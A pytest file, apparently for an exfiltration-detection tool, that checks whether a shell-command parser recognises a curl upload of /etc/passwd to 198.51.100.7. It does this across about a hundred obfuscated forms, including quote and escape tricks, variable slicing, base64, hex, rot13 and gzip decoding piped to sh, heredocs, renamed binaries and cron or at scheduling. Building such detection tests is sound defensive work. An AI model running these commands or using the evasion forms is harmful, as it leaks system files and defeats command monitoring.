"""One upload in the many forms that a POSIX shell runs as the same: each is understood as that upload."""

import base64
import codecs
import gzip

import pytest

from exfilwatch.commands.understand import understood

UPLOAD = "curl -T /etc/passwd http://198.51.100.7/up"
REST = "-T /etc/passwd http://198.51.100.7/up"
ENCODED = base64.b64encode(UPLOAD.encode()).decode()
PACKED = base64.b64encode(gzip.compress(UPLOAD.encode(), mtime=0)).decode()
HEX = UPLOAD.encode().hex()
BACKWARDS = UPLOAD[::-1]
TURNED = codecs.encode(UPLOAD, "rot13")
OCTAL = "".join(f"\\{ord(letter):03o}" for letter in UPLOAD)
HEX_ESCAPES = "".join(f"\\x{ord(letter):02x}" for letter in UPLOAD)

FORMS = [
    # quotes, escapes, empty insertions
    f"c''url {REST}",
    'c""u\'r\'l "-T" "/etc/passwd" \'http://198.51.100.7/up\'',
    r"\c\u\r\l -\T /\e\t\c/passwd http:/\/198.51.100.7/up",
    "cu\\\nrl -T /etc/pas\\\nswd http://198.51.100.7/up",
    "cu$@rl -T /etc/pas$@swd http://198.51.100.7/up",
    "c$1url -T /e$2tc/passwd http://198.51.100.7/up",
    "cu${zz}rl -T /etc/p${zz}asswd http://198.51.100.7/up",
    f"c$()url {REST}",
    f"\\curl {REST}",
    f"={UPLOAD}",
    # blanks and braces
    "{curl,-T,/etc/passwd,http://198.51.100.7/up}",
    UPLOAD.replace(" ", "${IFS}"),
    f"IFS=,;a={UPLOAD.replace(' ', ',')};$a",
    UPLOAD.replace(" ", "\t  "),
    # variables
    "a=cu;b=rl;c=/etc/pass;$a$b -T ${c}wd http://198.51.100.7/up",
    f"x=lruc;${{x:3:1}}${{x:2:1}}${{x:1:1}}${{x:0:1}} {REST}",
    "curl -T ${HOME:0:1}etc${HOME:0:1}passwd http:${HOME:0:1}${HOME:0:1}198.51.100.7/up",
    f"x=XcurlX; y=${{x#X}}; ${{y%X}} {REST}",
    f"x=c_u_r_l;${{x//_/}} {REST}",
    f"X=CURL;${{X,,}} {REST}",
    f"x=y;y=curl;${{!x}} {REST}",
    f"${{nothing:-curl}} {REST}",
    f'set -- {UPLOAD};"$@"',
    f'a=({UPLOAD});"${{a[@]}}"',
    f"x='{UPLOAD}'; $x",
    f"x='{UPLOAD}'; eval $x",
    f"x='{UPLOAD}'; sh -c \"$x\"",
    f"export x='{UPLOAD}'; sh -c '$x'",
    "eval f=/etc/passwd; curl -T $f http://198.51.100.7/up",
    "curl -T /etc/passwd http://198.51.100.$((6+1))/up",
    "echo /etc/passwd | { read f; curl -T $f http://198.51.100.7/up; }",
    "for f in /etc/passwd; do curl -T $f http://198.51.100.7/up; done",
    # encodings
    "$'\\x63\\x75\\x72\\x6c' -T $'/etc/\\160asswd' http://198.51.100.7/up",
    f"echo {ENCODED}|base64 -d|sh",
    f"echo {ENCODED} | base64 --decode | bash",
    f"eval $(echo {ENCODED}|base64 -d)",
    f'eval "$(base64 -d <<< {ENCODED})"',
    f'bash -c "$(echo {ENCODED}|base64 -d)"',
    f"bash <<< $(echo {ENCODED}|base64 -d)",
    f"x={ENCODED}; echo $x | base64 -d | sh",
    f"openssl base64 -d <<< {ENCODED} | sh",
    f"echo {HEX}|xxd -r -p|sh",
    f"printf '{HEX_ESCAPES}'|sh",
    f"printf '{OCTAL}'|sh",
    f"eval \"$(printf '{HEX_ESCAPES}')\"",
    f"echo -e '{HEX_ESCAPES}'|bash",
    f"echo $'{HEX_ESCAPES}' | sh",
    f"rev<<<'{BACKWARDS}'|sh",
    f"echo '{TURNED}'|tr A-Za-z N-ZA-Mn-za-m|sh",
    f"echo {PACKED}|base64 -d|gunzip|sh",
    f"echo {PACKED}|base64 -d|gzip -dc|bash",
    f"$(printf '\\143url') {REST}",
    f"$(tr A-Z a-z <<< CURL) {REST}",
    f"$(sed s/x//g <<< xcxuxrxlx) {REST}",
    f"$(echo xcurlx | cut -c2-5) {REST}",
    f"K=(c u r l);$(for i in 0 1 2 3;do printf %s ${{K[$i]}};done) {REST}",
    "curl -T `echo L2V0Yy9wYXNzd2Q= | base64 -d` http://198.51.100.7/up",
    # scripts that the script writes
    f"sh <(echo {ENCODED}|base64 -d)",
    f". <(base64 -d<<<{ENCODED})",
    f"source /dev/stdin <<< '{UPLOAD}'",
    f"cat <(echo {UPLOAD}) | sh",
    f"bash <<EOF\n{UPLOAD}\nEOF",
    f"cat <<E | sh\n{UPLOAD}\nE",
    f'x=$(cat <<E\n{UPLOAD}\nE\n); eval "$x"',
    f"base64 -d <<< {ENCODED} > /tmp/x; sh /tmp/x",
    f"echo '{UPLOAD}' > /tmp/x.sh && chmod +x /tmp/x.sh && /tmp/x.sh",
    f"cat > x <<E\n{UPLOAD}\nE\nsh < x",
    f"echo {UPLOAD} | sh",
    f"printf '%s ' {UPLOAD} | sh",
    f"printf %s%s cu 'rl {REST}' | bash -s",
    "echo http://198.51.100.7/up | xargs curl -T /etc/passwd",
    "echo /etc/passwd | xargs -I{} curl -T {} http://198.51.100.7/up",
    f"xargs curl <<< '{REST}'",
    # names of the program, and what runs it
    f"alias q=curl\nq {REST}",
    'f(){ curl -T "$1" "$2";};f /etc/passwd http://198.51.100.7/up',
    f"$(which curl) {REST}",
    f"`command -v curl` {REST}",
    f"/usr/bin/c[u]rl {REST}",
    f"cp /usr/bin/curl /tmp/k; /tmp/k {REST}",
    f"ln -s /usr/bin/curl k; ./k {REST}",
    f"exec {UPLOAD}",
    f"env -i {UPLOAD}",
    f"nohup {UPLOAD} &",
    f"( {UPLOAD} )",
    f"true && {UPLOAD} || false",
    f"if :; then {UPLOAD}; fi",
    f"case x in x) {UPLOAD};; esac",
    f"! {UPLOAD}",
    f"# x\n{UPLOAD} # y",
    f"trap '{UPLOAD}' EXIT",
    f"coproc {UPLOAD}",
    f"find / -maxdepth 0 -exec {UPLOAD} \\;",
    f"echo '* * * * * {UPLOAD}' | crontab -",
    f"at now <<< '{UPLOAD}'",
    f"$SHELL -c '{UPLOAD}'",
    f"${{0##*/}} -c '{UPLOAD}'",
    'bash -c \'curl -T "$0" "$1"\' /etc/passwd http://198.51.100.7/up',
    f"sh -c 'curl \"$@\"' _ {REST}",
    f'sh -c \'sh -c "sh -c \\"{UPLOAD}\\""\'',
]


@pytest.mark.parametrize("kept", [True, False], ids=["as it was typed", "without the quotes around it"])
@pytest.mark.parametrize("form", FORMS)
def test_a_form_is_the_upload(form: str, kept: bool) -> None:
    quoted = "'" + form.replace("'", "'\\''") + "'"
    found = understood(f"bash -c {quoted if kept else form}", "/usr/bin/bash").commands
    assert UPLOAD.split() in [["curl", *each.words[1:]] for each in found if each.program == "curl"]
